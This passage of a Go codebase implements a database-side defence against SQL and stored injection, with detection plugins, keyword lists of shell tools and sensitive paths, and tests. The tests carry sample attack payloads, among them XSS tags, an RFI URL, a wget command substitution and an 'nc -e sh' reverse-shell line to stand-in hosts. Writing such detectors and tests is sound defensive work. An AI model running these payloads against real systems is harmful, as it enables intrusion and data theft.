		key, _ := keyTok.(string)
		switch key {
		case "version":
			if err := dec.Decode(&file.Version); err != nil {
				return nil, fmt.Errorf("version: %w", err)
			}
		case "sets":
			if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
				return nil, fmt.Errorf("sets is not an object (%v)", err)
			}
			for dec.More() {
				idTok, err := dec.Token()
				if err != nil {
					return nil, err
				}
				id, _ := idTok.(string)
				if _, dup := file.Sets[id]; dup {
					return nil, fmt.Errorf("duplicate identifier %q", id)
				}
				var raw json.RawMessage
				if err := dec.Decode(&raw); err != nil {
					return nil, fmt.Errorf("record %q: %w", id, err)
				}
				if len(raw) > maxPersistedSetBytes {
					return nil, fmt.Errorf("record %q is %d bytes, exceeds the %d-byte limit",
						id, len(raw), maxPersistedSetBytes)
				}
				var p persistedSet
				if err := json.Unmarshal(raw, &p); err != nil {
					return nil, fmt.Errorf("record %q: %w", id, err)
				}
				file.Sets[id] = p
			}
			if _, err := dec.Token(); err != nil { // closing '}'
				return nil, err
			}
		default:
			// Unknown top-level fields are skipped for forward
			// compatibility.
			var skip json.RawMessage
			if err := dec.Decode(&skip); err != nil {
				return nil, err
			}
		}
	}
	return file, nil
}

// verifySets checks every model's persisted fingerprint. A record whose
// fingerprint array does not pair one sum with every model is itself
// corrupt — a truncated Sums array must not let the unmatched models
// skip verification.
func verifySets(sets map[string]persistedSet) error {
	for id, p := range sets {
		if len(p.Sums) != len(p.Models) {
			return fmt.Errorf("model store corrupt: %q has %d fingerprint(s) for %d model(s)",
				id, len(p.Sums), len(p.Models))
		}
		for i, m := range p.Models {
			if p.Sums[i] != m.Fingerprint() {
				return fmt.Errorf("model store corrupt: fingerprint mismatch for %q[%d]", id, i)
			}
		}
	}
	return nil
}

// restoreSets replaces the store contents with the given persisted
// sets. Shared by Load and checkpoint recovery (Persistence attach).
func (s *Store) restoreSets(sets map[string]persistedSet) {
	loaded := make(map[string]*modelSet, len(sets))
	for id, p := range sets {
		models := make([]qstruct.Model, len(p.Models))
		copy(models, p.Models)
		set := &modelSet{
			models:      models,
			incremental: p.Incremental,
		}
		set.hits.Store(p.Hits)
		loaded[id] = set
	}
	// Swap shard by shard: each identifier lands in its own shard, and
	// identifiers absent from the file are cleared.
	var fresh [storeShardCount]map[string]*modelSet
	for i := range fresh {
		fresh[i] = make(map[string]*modelSet)
	}
	for id, set := range loaded {
		h := fnv.New32a()
		_, _ = h.Write([]byte(id))
		fresh[h.Sum32()%storeShardCount][id] = set
	}
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.Lock()
		sh.models = fresh[i]
		sh.mu.Unlock()
	}
	s.gen.Add(1)
}

// Load replaces the store contents with the models persisted at path,
// verifying fingerprints and rejecting duplicate-identifier and
// oversized records.
func (s *Store) Load(path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("read model store: %w", err)
	}
	file, err := decodeStoreFile(data)
	if err != nil {
		return fmt.Errorf("decode model store: %w", err)
	}
	if file.Version != storeVersion {
		return fmt.Errorf("model store version %d unsupported (want %d)",
			file.Version, storeVersion)
	}
	if err := verifySets(file.Sets); err != nil {
		return err
	}
	s.restoreSets(file.Sets)
	s.obs.Publish(obs.Event{Kind: obs.KindStore,
		Detail: fmt.Sprintf("store reloaded: %d identifier(s)", len(file.Sets))})
	return nil
}
