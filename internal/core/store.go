package core

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"sync"
	"sync/atomic"

	"github.com/septic-db/septic/internal/qstruct"
)

// Store is the "QM learned" store of Fig. 1: learned query models keyed
// by query identifier, held in memory and persisted to disk so models
// survive a DBMS restart (demo phase D: "the persistent query models
// are loaded").
//
// Extensions over the paper's prototype:
//
//   - Model sets: the store keeps a SET of models per identifier.
//     Applications legitimately issue structural variants under one
//     identifier (the canonical case is a sort selector); a query
//     conforms if it matches ANY learned model. The paper's single-model
//     behaviour is the degenerate one-element set.
//   - Provenance and usage: each identifier records whether it was
//     learned during deliberate training or incrementally in normal mode
//     — the paper's §II-E requires "the programmer/administrator will
//     have to decide if the query model comes from a malicious or a
//     benign query", and PendingReview is exactly that work list — plus
//     a hit counter for usage-based triage.
//
// The store is safe for concurrent use by many sessions.
type Store struct {
	mu     sync.RWMutex
	models map[string]*modelSet
}

// modelSet is the per-identifier record.
type modelSet struct {
	models []qstruct.Model
	// hits counts lookups; mutated atomically under the read lock.
	hits int64
	// incremental marks identifiers first seen outside training mode.
	incremental bool
}

// Usage summarizes one identifier for administrative review.
type Usage struct {
	ID     string
	Models int
	Hits   int64
	// Incremental is true until an administrator approves the
	// identifier (or it was learned in training mode to begin with).
	Incremental bool
}

// NewStore creates an empty model store.
func NewStore() *Store {
	return &Store{models: make(map[string]*modelSet)}
}

// Get returns the models learned for id (a copy) and counts the hit.
func (s *Store) Get(id string) ([]qstruct.Model, bool) {
	s.mu.RLock()
	set, ok := s.models[id]
	if !ok {
		s.mu.RUnlock()
		return nil, false
	}
	atomic.AddInt64(&set.hits, 1)
	out := make([]qstruct.Model, len(set.models))
	copy(out, set.models)
	s.mu.RUnlock()
	return out, true
}

// Put stores a model for id, recording whether it was learned
// incrementally (normal mode) rather than during training. It reports
// whether the model was new: a model with an identical fingerprint is
// never re-added (paper §IV-C: "the query model is created and stored
// only once").
func (s *Store) Put(id string, m qstruct.Model, incremental bool) bool {
	fp := m.Fingerprint()
	s.mu.Lock()
	defer s.mu.Unlock()
	set, ok := s.models[id]
	if !ok {
		set = &modelSet{incremental: incremental}
		s.models[id] = set
	}
	for _, existing := range set.models {
		if existing.Fingerprint() == fp {
			return false
		}
	}
	set.models = append(set.models, m)
	if incremental {
		set.incremental = true
	}
	return true
}

// Delete removes every model learned for id (administrator review
// rejecting a poisoned identifier).
func (s *Store) Delete(id string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.models, id)
}

// Approve clears an identifier's incremental flag: the administrator
// reviewed the query and deemed it benign.
func (s *Store) Approve(id string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	set, ok := s.models[id]
	if !ok {
		return false
	}
	set.incremental = false
	return true
}

// PendingReview lists the identifiers learned incrementally and not yet
// approved — the administrator's §II-E work list — sorted.
func (s *Store) PendingReview() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []string
	for id, set := range s.models {
		if set.incremental {
			out = append(out, id)
		}
	}
	sort.Strings(out)
	return out
}

// UsageReport returns per-identifier usage, sorted by descending hits
// then id — the triage view for the administrator.
func (s *Store) UsageReport() []Usage {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]Usage, 0, len(s.models))
	for id, set := range s.models {
		out = append(out, Usage{
			ID:          id,
			Models:      len(set.models),
			Hits:        atomic.LoadInt64(&set.hits),
			Incremental: set.incremental,
		})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Hits != out[j].Hits {
			return out[i].Hits > out[j].Hits
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// Len returns the number of known query identifiers.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.models)
}

// ModelCount returns the total number of learned models across all
// identifiers (≥ Len when variants exist).
func (s *Store) ModelCount() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	n := 0
	for _, set := range s.models {
		n += len(set.models)
	}
	return n
}

// IDs returns the learned query identifiers, sorted.
func (s *Store) IDs() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]string, 0, len(s.models))
	for id := range s.models {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// persistedSet is the on-disk form of one identifier's record.
type persistedSet struct {
	Models      []qstruct.Model `json:"models"`
	Sums        []uint64        `json:"sums"`
	Hits        int64           `json:"hits"`
	Incremental bool            `json:"incremental,omitempty"`
}

// storeFile is the persisted JSON layout.
type storeFile struct {
	Version int                     `json:"version"`
	Sets    map[string]persistedSet `json:"sets"`
}

const storeVersion = 3

// Save writes the learned models to path atomically (write to temp file,
// then rename), with per-model fingerprints for integrity checking.
func (s *Store) Save(path string) error {
	s.mu.RLock()
	file := storeFile{
		Version: storeVersion,
		Sets:    make(map[string]persistedSet, len(s.models)),
	}
	for id, set := range s.models {
		p := persistedSet{
			Models:      make([]qstruct.Model, len(set.models)),
			Sums:        make([]uint64, len(set.models)),
			Hits:        atomic.LoadInt64(&set.hits),
			Incremental: set.incremental,
		}
		copy(p.Models, set.models)
		for i, m := range set.models {
			p.Sums[i] = m.Fingerprint()
		}
		file.Sets[id] = p
	}
	s.mu.RUnlock()

	data, err := json.MarshalIndent(&file, "", "  ")
	if err != nil {
		return fmt.Errorf("encode model store: %w", err)
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return fmt.Errorf("write model store: %w", err)
	}
	if err := os.Rename(tmp, path); err != nil {
		return fmt.Errorf("rename model store: %w", err)
	}
	return nil
}

// Load replaces the store contents with the models persisted at path,
// verifying fingerprints.
func (s *Store) Load(path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("read model store: %w", err)
	}
	var file storeFile
	if err := json.Unmarshal(data, &file); err != nil {
		return fmt.Errorf("decode model store: %w", err)
	}
	if file.Version != storeVersion {
		return fmt.Errorf("model store version %d unsupported (want %d)",
			file.Version, storeVersion)
	}
	loaded := make(map[string]*modelSet, len(file.Sets))
	for id, p := range file.Sets {
		for i, m := range p.Models {
			if i < len(p.Sums) && p.Sums[i] != m.Fingerprint() {
				return fmt.Errorf("model store corrupt: fingerprint mismatch for %q[%d]", id, i)
			}
		}
		models := make([]qstruct.Model, len(p.Models))
		copy(models, p.Models)
		loaded[id] = &modelSet{
			models:      models,
			hits:        p.Hits,
			incremental: p.Incremental,
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.models = loaded
	return nil
}
