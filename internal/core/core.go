package core
