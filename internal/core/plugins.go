package core

import (
	"strings"

	"github.com/septic-db/septic/internal/htmlcheck"
)

// Plugin detects one class of stored-injection attack in a value an
// INSERT or UPDATE is about to write. Detection is two-step, per the
// paper (§II-C3): Filter is "a lightweight checking of the user input
// ... to determine if it contains characters associated with malicious
// actions"; Validate is "a more precise validation ... tailored to
// confirm with higher certainty the attack", run only when Filter flags
// the value.
type Plugin interface {
	// Name identifies the plugin in attack logs.
	Name() string
	// Filter is the cheap character-level pre-check.
	Filter(value string) bool
	// Validate confirms the attack; the returned detail describes the
	// finding when the boolean is true.
	Validate(value string) (detail string, attack bool)
}

// DefaultPlugins returns the plugin chain of the paper's prototype:
// stored XSS, remote/local file inclusion (RFI/LFI), and OS/remote
// command execution (OSCI/RCE).
func DefaultPlugins() []Plugin {
	return []Plugin{
		&XSSPlugin{},
		&FileInclusionPlugin{},
		&CommandInjectionPlugin{},
	}
}

// XSSPlugin detects stored cross-site scripting: values that, when later
// echoed into an HTML page, execute script.
type XSSPlugin struct{}

// Interface compliance.
var _ Plugin = (*XSSPlugin)(nil)

// Name implements Plugin.
func (*XSSPlugin) Name() string { return "stored-xss" }

// Filter flags values containing the markup characters associated with
// XSS ('<' and '>', per the paper's example).
func (*XSSPlugin) Filter(value string) bool {
	return strings.ContainsAny(value, "<>")
}

// Validate inserts the value in a web page context and runs the HTML
// scanner; active content confirms the attack.
func (*XSSPlugin) Validate(value string) (string, bool) {
	findings := htmlcheck.Scan(value)
	if len(findings) == 0 {
		return "", false
	}
	parts := make([]string, 0, len(findings))
	for _, f := range findings {
		parts = append(parts, f.String())
	}
	return strings.Join(parts, "; "), true
}

// FileInclusionPlugin detects remote and local file inclusion payloads
// (RFI and LFI): URLs and paths that, if later used by the application
// in an include/require, pull in attacker-controlled code.
type FileInclusionPlugin struct{}

var _ Plugin = (*FileInclusionPlugin)(nil)

// Name implements Plugin.
func (*FileInclusionPlugin) Name() string { return "file-inclusion" }

// Filter flags values containing path or URL structure, or the NUL
// bytes (raw or encoded) that null-byte truncation attacks rely on.
func (*FileInclusionPlugin) Filter(value string) bool {
	return strings.ContainsAny(value, "/\\\x00") || strings.Contains(value, "%2f") ||
		strings.Contains(value, "%2F") || strings.Contains(value, "%00")
}

// remoteSchemes are URL schemes whose inclusion executes remote or
// wrapped content (classic RFI plus PHP stream wrappers).
var remoteSchemes = []string{
	"http://", "https://", "ftp://", "ftps://",
	"php://", "data://", "expect://", "zip://", "phar://",
}

// sensitivePaths are local targets canonical to LFI probing.
var sensitivePaths = []string{
	"/etc/passwd", "/etc/shadow", "/proc/self", "/var/log",
	"c:\\windows", "c:/windows", "boot.ini", "win.ini",
}

// Validate confirms a file-inclusion payload.
func (*FileInclusionPlugin) Validate(value string) (string, bool) {
	decoded := percentDecode(strings.ToLower(value))
	for _, scheme := range remoteSchemes {
		if idx := strings.Index(decoded, scheme); idx >= 0 {
			// A URL inside prose ("see https://example.com") is benign
			// if it does not carry a script-like or wrapper target; the
			// PHP wrappers and ftp/expect are always suspicious, http(s)
			// only when the path ends in executable/include bait.
			if scheme == "http://" || scheme == "https://" {
				rest := decoded[idx+len(scheme):]
				if !looksLikeIncludeTarget(rest) {
					continue
				}
			}
			return "remote inclusion via " + scheme, true
		}
	}
	if strings.Contains(decoded, "../") || strings.Contains(decoded, "..\\") {
		return "path traversal", true
	}
	for _, p := range sensitivePaths {
		if strings.Contains(decoded, p) {
			return "sensitive path " + p, true
		}
	}
	if strings.Contains(decoded, "\x00") || strings.Contains(value, "%00") {
		return "null-byte truncation", true
	}
	return "", false
}

// looksLikeIncludeTarget reports whether an http(s) URL tail looks like
// code to include rather than a document link.
func looksLikeIncludeTarget(rest string) bool {
	for _, ext := range []string{".php", ".inc", ".phtml", ".asp", ".jsp", ".sh", ".txt?"} {
		if strings.Contains(rest, ext) {
			return true
		}
	}
	// Query strings smuggling another URL are classic RFI bait.
	return strings.Contains(rest, "?cmd=") || strings.Contains(rest, "?page=")
}

// percentDecode performs a single, permissive URL-decode pass (invalid
// escapes pass through), enough to catch %2e%2e%2f-style obfuscation.
func percentDecode(s string) string {
	if !strings.Contains(s, "%") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			hi, ok1 := unhex(s[i+1])
			lo, ok2 := unhex(s[i+2])
			if ok1 && ok2 {
				b.WriteByte(hi<<4 | lo)
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func unhex(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	default:
		return 0, false
	}
}

// CommandInjectionPlugin detects OS command injection (OSCI) and remote
// command execution (RCE) payloads stored for later use in shell
// contexts.
type CommandInjectionPlugin struct{}

var _ Plugin = (*CommandInjectionPlugin)(nil)

// Name implements Plugin.
func (*CommandInjectionPlugin) Name() string { return "command-injection" }

// Filter flags shell metacharacters (newline included: "%0a cat ..."
// chains are a classic filter evasion).
func (*CommandInjectionPlugin) Filter(value string) bool {
	return strings.ContainsAny(value, ";|&`$(\n")
}

// shellCommands is the vocabulary of binaries command-injection payloads
// chain to.
var shellCommands = map[string]bool{
	"ls": true, "cat": true, "rm": true, "cp": true, "mv": true,
	"wget": true, "curl": true, "nc": true, "netcat": true, "bash": true,
	"sh": true, "zsh": true, "python": true, "perl": true, "php": true,
	"powershell": true, "cmd": true, "whoami": true, "id": true,
	"uname": true, "ping": true, "chmod": true, "chown": true, "kill": true,
	"echo": true, "touch": true, "find": true, "nmap": true, "tftp": true,
}

// Validate confirms a command-injection payload: a chaining operator
// followed by a known command, or command substitution.
func (*CommandInjectionPlugin) Validate(value string) (string, bool) {
	// Command substitution is always suspicious in stored data.
	if strings.Contains(value, "$(") || strings.Contains(value, "`") {
		if detail, ok := substitutionCommand(value); ok {
			return detail, true
		}
	}
	// Chaining operators: ; | & && ||
	rest := value
	for {
		idx := strings.IndexAny(rest, ";|&\n")
		if idx < 0 {
			return "", false
		}
		tail := rest[idx:]
		tail = strings.TrimLeft(tail, ";|&\n \t")
		word := firstWord(tail)
		if shellCommands[word] {
			return "shell chain into " + word, true
		}
		rest = tail
		if rest == "" {
			return "", false
		}
	}
}

// substitutionCommand inspects $(...) and `...` bodies.
func substitutionCommand(value string) (string, bool) {
	for _, open := range []string{"$(", "`"} {
		idx := strings.Index(value, open)
		if idx < 0 {
			continue
		}
		body := value[idx+len(open):]
		word := firstWord(strings.TrimLeft(body, " \t"))
		if shellCommands[word] {
			return "command substitution running " + word, true
		}
	}
	return "", false
}

// firstWord extracts the leading command word of a shell fragment.
func firstWord(s string) string {
	end := 0
	for end < len(s) {
		c := s[end]
		if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_' || c == '-' || c == '.' || c == '/' {
			end++
			continue
		}
		break
	}
	word := strings.ToLower(s[:end])
	// Strip a path prefix: /bin/sh, ./bash.
	if i := strings.LastIndexByte(word, '/'); i >= 0 {
		word = word[i+1:]
	}
	return word
}
