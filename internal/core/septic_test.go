package core

import (
	"errors"
	"fmt"
	"path/filepath"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// newProtectedDB wires a fresh engine to a fresh SEPTIC in the given
// config and creates the tickets schema of the paper's running example.
func newProtectedDB(t *testing.T, cfg Config) (*engine.DB, *Septic) {
	t.Helper()
	sep := New(cfg)
	db := engine.New(engine.WithQueryHook(sep))
	setup := []string{
		"CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)",
		"CREATE TABLE users (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, passwd TEXT)",
		"CREATE TABLE comments (id INT PRIMARY KEY AUTO_INCREMENT, author TEXT, body TEXT)",
		"INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234), ('ZZ91AB', 5678)",
		"INSERT INTO users (name, passwd) VALUES ('admin', 's3cret')",
	}
	// Setup runs while SEPTIC trains, so the DDL/seed queries simply
	// gain models.
	for _, q := range setup {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	return db, sep
}

// train teaches SEPTIC the benign shape of the demo queries.
func train(t *testing.T, db *engine.DB, sep *Septic, queries []string) {
	t.Helper()
	prev := sep.Config()
	sep.SetConfig(Config{Mode: ModeTraining})
	for _, q := range queries {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("training %q: %v", q, err)
		}
	}
	sep.SetConfig(prev)
}

const ticketsLookup = "SELECT * FROM tickets WHERE reservID = '%s' AND creditCard = %s"

func TestTrainingLearnsOneModelPerQuery(t *testing.T) {
	cfg := Config{Mode: ModeTraining}
	db, sep := newProtectedDB(t, cfg)
	before := sep.Store().Len()
	// Two executions of the same query shape, different data.
	for _, args := range [][2]string{{"ID34FG", "1234"}, {"ZZ91AB", "5678"}} {
		q := fmt.Sprintf(ticketsLookup, args[0], args[1])
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("Exec: %v", err)
		}
	}
	if got := sep.Store().Len(); got != before+1 {
		t.Errorf("store grew by %d models, want 1 (same shape learned once)", got-before)
	}
	if c := sep.Logger().Counters(); c.ModelsLearned == 0 {
		t.Error("no model-learned events logged")
	}
}

func TestPreventionBlocksSecondOrderAttack(t *testing.T) {
	// The full §II-D1 scenario: (1) the attacker stores
	// "ID34FGʼ-- " (Unicode prime, untouched by escaping); (2) the app
	// reads it back and concatenates it into the tickets query; (3) the
	// DBMS decodes the prime into a live quote. SEPTIC must block step 3.
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	stored := "ID34FGʼ-- " // what the database now holds
	attacked := fmt.Sprintf(ticketsLookup, stored, "0")
	_, err := db.Exec(attacked)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	attacks := sep.Logger().Attacks()
	if len(attacks) != 1 {
		t.Fatalf("attacks logged = %d, want 1", len(attacks))
	}
	ev := attacks[0]
	if ev.Kind != EventAttackBlocked || ev.Attack != AttackSQLI {
		t.Errorf("event = %+v", ev)
	}
	if ev.Step.String() != "structural" {
		t.Errorf("step = %s, want structural (Fig. 3: node count differs)", ev.Step)
	}
}

func TestPreventionBlocksMimicryAttack(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	// §II-D1 second example: "ID34FG' AND 1=1-- " keeps the node count.
	attacked := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
	_, err := db.Exec(attacked)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	ev := sep.Logger().Attacks()[0]
	if ev.Step.String() != "syntactical" {
		t.Errorf("step = %s, want syntactical (Fig. 4: same count, node differs)", ev.Step)
	}
}

func TestPreventionAllowsBenignVariants(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	// No false positives: same shape, fresh data, including data with
	// SQL-looking content safely inside the literal.
	benign := []string{
		fmt.Sprintf(ticketsLookup, "ZZ91AB", "5678"),
		fmt.Sprintf(ticketsLookup, "nothing here", "0"),
		fmt.Sprintf(ticketsLookup, `O\'Brien`, "42"), // properly escaped quote
	}
	for _, q := range benign {
		if _, err := db.Exec(q); err != nil {
			t.Errorf("benign query blocked: %q: %v", q, err)
		}
	}
	if got := sep.Stats().AttacksFound; got != 0 {
		t.Errorf("false positives: %d attacks found", got)
	}
}

func TestDetectionModeLogsButExecutes(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeDetection, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"SELECT passwd FROM users WHERE name = 'admin'"})

	res, err := db.Exec("SELECT passwd FROM users WHERE name = 'admin' OR 1=1-- '")
	if err != nil {
		t.Fatalf("detection mode must execute: %v", err)
	}
	if len(res.Rows) == 0 {
		t.Error("attack query should have returned rows in detection mode")
	}
	stats := sep.Stats()
	if stats.AttacksFound != 1 || stats.AttacksBlocked != 0 {
		t.Errorf("stats = %+v, want found=1 blocked=0", stats)
	}
	if ev := sep.Logger().Attacks()[0]; ev.Kind != EventAttackDetected {
		t.Errorf("event kind = %s, want attack-detected", ev.Kind)
	}
}

// TestTableIModeMatrix verifies the action matrix of Table I: which
// modes train, log, detect, drop and execute.
func TestTableIModeMatrix(t *testing.T) {
	attackQuery := "SELECT passwd FROM users WHERE name = 'admin' OR 1=1-- '"
	benignQuery := "SELECT passwd FROM users WHERE name = 'admin'"

	cases := []struct {
		name          string
		mode          Mode
		wantExecAtk   bool // attack query executes
		wantBlockStat bool // blocked counter increments
		wantDetect    bool // attack event logged
	}{
		{"training", ModeTraining, true, false, false},
		{"detection", ModeDetection, true, false, true},
		{"prevention", ModePrevention, false, true, true},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
			train(t, db, sep, []string{benignQuery})
			sep.SetConfig(Config{Mode: tt.mode, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})

			_, err := db.Exec(attackQuery)
			gotExec := err == nil
			if gotExec != tt.wantExecAtk {
				t.Errorf("attack executed = %t, want %t (err=%v)", gotExec, tt.wantExecAtk, err)
			}
			stats := sep.Stats()
			if (stats.AttacksBlocked > 0) != tt.wantBlockStat {
				t.Errorf("blocked = %d, wantBlock = %t", stats.AttacksBlocked, tt.wantBlockStat)
			}
			if (len(sep.Logger().Attacks()) > 0) != tt.wantDetect {
				t.Errorf("attack events = %d, wantDetect = %t", len(sep.Logger().Attacks()), tt.wantDetect)
			}
			// Benign queries execute in every mode.
			if _, err := db.Exec(benignQuery); err != nil {
				t.Errorf("benign blocked in %s: %v", tt.mode, err)
			}
		})
	}
}

func TestIncrementalLearningInNormalMode(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: true})
	before := sep.Store().Len()
	c0 := sep.Logger().Counters()
	// Never-trained query: learned on the fly and executed.
	if _, err := db.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatalf("unknown query should execute under incremental learning: %v", err)
	}
	if sep.Store().Len() != before+1 {
		t.Error("model not learned incrementally")
	}
	if c := sep.Logger().Counters(); c.NewQueries != c0.NewQueries+1 {
		t.Errorf("new-query events = %d, want %d", c.NewQueries, c0.NewQueries+1)
	}
	// Second time: model exists, query is checked.
	if _, err := db.Exec("SELECT name FROM users WHERE id = 2"); err != nil {
		t.Fatalf("known-shape query: %v", err)
	}
	if c := sep.Logger().Counters(); c.QueriesChecked == 0 {
		t.Error("second execution should be checked against the learned model")
	}
}

func TestIncrementalLearningDisabled(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	before := sep.Store().Len()
	if _, err := db.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatalf("unknown query still executes (paper: admin decides later): %v", err)
	}
	if sep.Store().Len() != before {
		t.Error("model must not be learned when incremental learning is off")
	}
}

func TestStoredXSSBlocked(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"INSERT INTO comments (author, body) VALUES ('seed', 'text')"})

	// §II-D2: the paper's stored XSS example.
	q := `INSERT INTO comments (author, body) VALUES ('mal', '<script> alert(\'Hello!\');</script>')`
	_, err := db.Exec(q)
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	ev := sep.Logger().Attacks()[0]
	if ev.Attack != AttackStored || ev.Plugin != "stored-xss" {
		t.Errorf("event = %+v", ev)
	}
}

func TestStoredInjectionVariants(t *testing.T) {
	mk := func() (*engine.DB, *Septic) {
		db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
		train(t, db, sep, []string{
			"INSERT INTO comments (author, body) VALUES ('seed', 'text')",
			"UPDATE comments SET body = 'x' WHERE id = 1",
		})
		return db, sep
	}
	attacks := []struct {
		name   string
		query  string
		plugin string
	}{
		{"xss img onerror", `INSERT INTO comments (author, body) VALUES ('m', '<img src=x onerror=alert(1)>')`, "stored-xss"},
		{"xss via update", `UPDATE comments SET body = '<iframe src="http://evil"></iframe>' WHERE id = 1`, "stored-xss"},
		{"rfi", `INSERT INTO comments (author, body) VALUES ('m', 'http://evil.example/shell.php?cmd=id')`, "file-inclusion"},
		{"php wrapper", `INSERT INTO comments (author, body) VALUES ('m', 'php://filter/convert.base64-encode/resource=index.php')`, "file-inclusion"},
		{"lfi traversal", `INSERT INTO comments (author, body) VALUES ('m', '../../../../etc/passwd')`, "file-inclusion"},
		{"lfi encoded", `INSERT INTO comments (author, body) VALUES ('m', '%2e%2e%2f%2e%2e%2fetc%2fpasswd')`, "file-inclusion"},
		{"osci chain", `INSERT INTO comments (author, body) VALUES ('m', 'x; cat /etc/passwd')`, "file-inclusion"},
		{"rce substitution", `INSERT INTO comments (author, body) VALUES ('m', 'a$(wget evil/x)b')`, "command-injection"},
		{"rce backtick", "INSERT INTO comments (author, body) VALUES ('m', 'a`nc -e sh evil 4444`')", "command-injection"},
	}
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			db, sep := mk()
			_, err := db.Exec(tt.query)
			if !errors.Is(err, engine.ErrQueryBlocked) {
				t.Fatalf("err = %v, want ErrQueryBlocked", err)
			}
			ev := sep.Logger().Attacks()[0]
			if ev.Attack != AttackStored {
				t.Errorf("attack = %s, want stored-injection", ev.Attack)
			}
			if ev.Plugin != tt.plugin {
				t.Logf("plugin = %s (expected %s) — acceptable if another plugin fired first: %s",
					ev.Plugin, tt.plugin, ev.Detail)
			}
		})
	}
}

func TestStoredInjectionBenignContent(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"INSERT INTO comments (author, body) VALUES ('seed', 'text')"})

	benign := []string{
		"plain text",
		"math: a < b and c > d",
		"Tom & Jerry; best duo",
		"see https://example.com for docs",
		"price is $5 (on sale)",
		"file is in /home/user/docs",
		"2 << 4 equals 32",
		"use <b>bold</b> for emphasis",
	}
	for _, body := range benign {
		q := fmt.Sprintf("INSERT INTO comments (author, body) VALUES ('u', '%s')", body)
		if _, err := db.Exec(q); err != nil {
			t.Errorf("benign stored content blocked: %q: %v", body, err)
		}
	}
	if got := sep.Stats().AttacksFound; got != 0 {
		t.Errorf("false positives on benign content: %d", got)
	}
}

// TestStoredDetectionOnlyChecksInsertUpdate: SELECTs carrying markup in a
// literal are not stored-injection (paper: plugins run for INSERT and
// UPDATE).
func TestStoredDetectionOnlyChecksInsertUpdate(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectStored: true, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{"SELECT id FROM comments WHERE body = 'x'"})
	if _, err := db.Exec("SELECT id FROM comments WHERE body = '<script>x</script>'"); err != nil {
		t.Errorf("SELECT must not trigger stored-injection: %v", err)
	}
	_ = sep
}

func TestConfigTogglesDetections(t *testing.T) {
